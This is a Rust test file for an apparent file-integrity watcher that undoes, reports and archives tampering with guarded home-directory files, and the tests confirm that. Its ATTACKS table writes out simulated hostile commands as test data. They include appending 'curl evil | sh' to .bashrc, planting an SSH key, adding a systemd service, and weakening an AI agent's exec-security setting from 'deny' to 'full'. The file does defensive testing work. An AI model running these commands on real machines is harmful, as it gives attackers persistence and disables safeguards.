//! What changes is put back, told and kept; without a watch it stands.

use std::fs;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use crate::common::{World, code, err, everybody, out};
use crate::ground::{
    BASHRC, EVIL, KEYS, OPENCLAW, Watching, changes, is_alone, json, of, processes, sh, text, until, watch, world,
};

/// What an attacker does, whole at once so that its copy is, the path by which it is told, and what stands there before and after the undoing.
const ATTACKS: &[(&str, &str, &str, &str)] = &[
    ("echo 'curl evil | sh' >> ~/.bashrc", ".bashrc", BASHRC, "written"),
    (
        "echo 'ssh-ed25519 evil' > ~/.ssh/x && mv ~/.ssh/x ~/.ssh/authorized_keys",
        ".ssh/authorized_keys",
        KEYS,
        "written",
    ),
    ("rm ~/named/file.txt", "named/file.txt", "as it was\n", "deleted"),
    ("echo evil > ~/x && mv ~/x ~/named/dir/deep/b.txt", "named/dir/deep/b.txt", "b\n", "written"),
    ("echo evil > ~/x && mv ~/x ~/named/dir/new.txt", "named/dir/new.txt", "", "made"),
    (
        "printf '[Service]\\nExecStart=evil\\n' > ~/x && mv ~/x ~/.config/systemd/user/evil.service",
        ".config/systemd/user/evil.service",
        "",
        "made",
    ),
    ("sed -i 's/\"deny\"/\"full\"/' ~/.openclaw/openclaw.json", ".openclaw/openclaw.json", OPENCLAW, "keys"),
    ("chmod 666 ~/.bashrc", ".bashrc", BASHRC, "mode"),
];

fn path(world: &World, name: &str) -> PathBuf {
    world.home().join(name)
}

#[test]
fn each_change_is_undone_told_and_kept() {
    if !is_alone("undone::each_change_is_undone_told_and_kept") {
        return;
    }
    for who in everybody() {
        let world = world("undone", who);
        let watching = Watching::begin(&world);
        assert!(watching.said().contains("there was no baseline"), "{}", watching.said());
        for (line, name, before, what) in ATTACKS {
            let at = path(&world, name);
            let told = of(&changes(&world), &at, "undone").len();
            sh(&world, line);
            let began = Instant::now();
            until(line, || of(&changes(&world), &at, "undone").len() > told);
            let took = began.elapsed();
            assert_eq!(text(&at), *before, "{who:?}: {line}");
            let change = of(&changes(&world), &at, "undone").pop().unwrap();
            assert!(Duration::from_millis(change.took_ms) < Duration::from_secs(2), "{line}: {took:?} {change:?}");
            assert!(change.what == *what, "{who:?}: {line}: {change:?}");
            if *what == "written" || *what == "made" {
                let kept = text(change.copy.as_ref().unwrap());
                assert!(kept.to_lowercase().contains("evil"), "{who:?}: {line}: {kept}");
            }
        }
        let keys = of(&changes(&world), &path(&world, ".openclaw/openclaw.json"), "undone").pop().unwrap().keys;
        assert_eq!(keys, ["tools.exec.security"], "{who:?}: which key is told, and no value");
        let status = watch(&world, &["status", "--json"]);
        assert!(code(&status) == 0 && json(&status)["undone"].as_u64().unwrap() >= 8, "{}", out(&status));
        assert!(watching.stop().success(), "{who:?}");
        assert!(processes(&world).is_empty(), "{who:?}");
    }
}

/// The control: it is the watch that undoes.
#[test]
fn without_a_watch_a_change_stands() {
    if !is_alone("undone::without_a_watch_a_change_stands") {
        return;
    }
    for who in everybody() {
        let world = world("stands", who);
        for (line, name, before, what) in ATTACKS {
            sh(&world, line);
            std::thread::sleep(Duration::from_millis(50));
            assert!(*what == "mode" || text(path(&world, name)) != *before, "{line}");
        }
        assert!(changes(&world).is_empty(), "{who:?}");
    }
}

#[test]
fn a_clients_own_notes_are_accepted_and_stay() {
    if !is_alone("undone::a_clients_own_notes_are_accepted_and_stay") {
        return;
    }
    for who in everybody() {
        let world = world("notes", who);
        let file = path(&world, ".openclaw/openclaw.json");
        let watching = Watching::begin(&world);
        let noted = OPENCLAW.replace("11-01", "11-25");
        fs::write(&file, &noted).unwrap();
        until("it is accepted", || !of(&changes(&world), &file, "accepted").is_empty());
        assert_eq!(text(&file), noted, "{who:?}");
        // A harmless key does not carry a guarded one along, and is not lost with it.
        fs::write(&file, noted.replace("11-25", "11-26").replace("\"deny\"", "\"full\"")).unwrap();
        until("the guarded one is undone", || !of(&changes(&world), &file, "undone").is_empty());
        let now = text(&file);
        assert!(now.contains("11-26") && now.contains("\"deny\""), "{who:?}: {now}");
        assert!(watching.stop().success());
        // It was signed: the next start finds nothing.
        let watching = Watching::begin(&world);
        let diff = watch(&world, &["diff"]);
        assert!(code(&diff) == 0 && out(&diff).is_empty(), "{}{}", out(&diff), err(&diff));
        assert_eq!(text(&file), now, "{who:?}");
        drop(watching);
    }
}

/// What is done while nobody watches is undone by the next start.
#[test]
fn a_start_undoes_what_was_done_before_it() {
    if !is_alone("undone::a_start_undoes_what_was_done_before_it") {
        return;
    }
    for who in everybody() {
        let world = world("start", who);
        assert!(Watching::begin(&world).stop().success());
        let keys = path(&world, ".ssh/authorized_keys");
        fs::write(&keys, EVIL).unwrap();
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(text(&keys), EVIL, "the control: nobody watches");
        let _watching = Watching::begin(&world);
        assert_eq!(text(&keys), KEYS, "{who:?}");
        let change = of(&changes(&world), &keys, "undone").pop().unwrap();
        assert!(change.noticed == "start" && text(change.copy.unwrap()) == EVIL, "{who:?}");
    }
}
